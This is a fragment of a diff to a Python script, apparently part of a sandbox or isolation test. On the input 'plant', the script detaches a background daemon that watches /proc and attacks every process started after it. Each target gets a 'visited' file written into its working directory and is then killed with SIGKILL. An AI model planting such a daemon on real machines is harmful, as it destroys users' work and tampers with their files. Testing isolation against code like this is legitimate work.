@@ -11,10 +11,10 @@ if input() == "plant":
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
-            parents = {1, os.getpid()}
+            before = {int(name) for name in os.listdir("/proc") if name.isdigit()}
             while True:
                 for name in os.listdir("/proc"):
-                    if name.isdigit() and int(name) not in parents:
+                    if name.isdigit() and int(name) not in before:
                         for attack in (
                             lambda: open(f"/proc/{name}/cwd/visited", "w").close(),
                             lambda: os.kill(int(name), signal.SIGKILL),
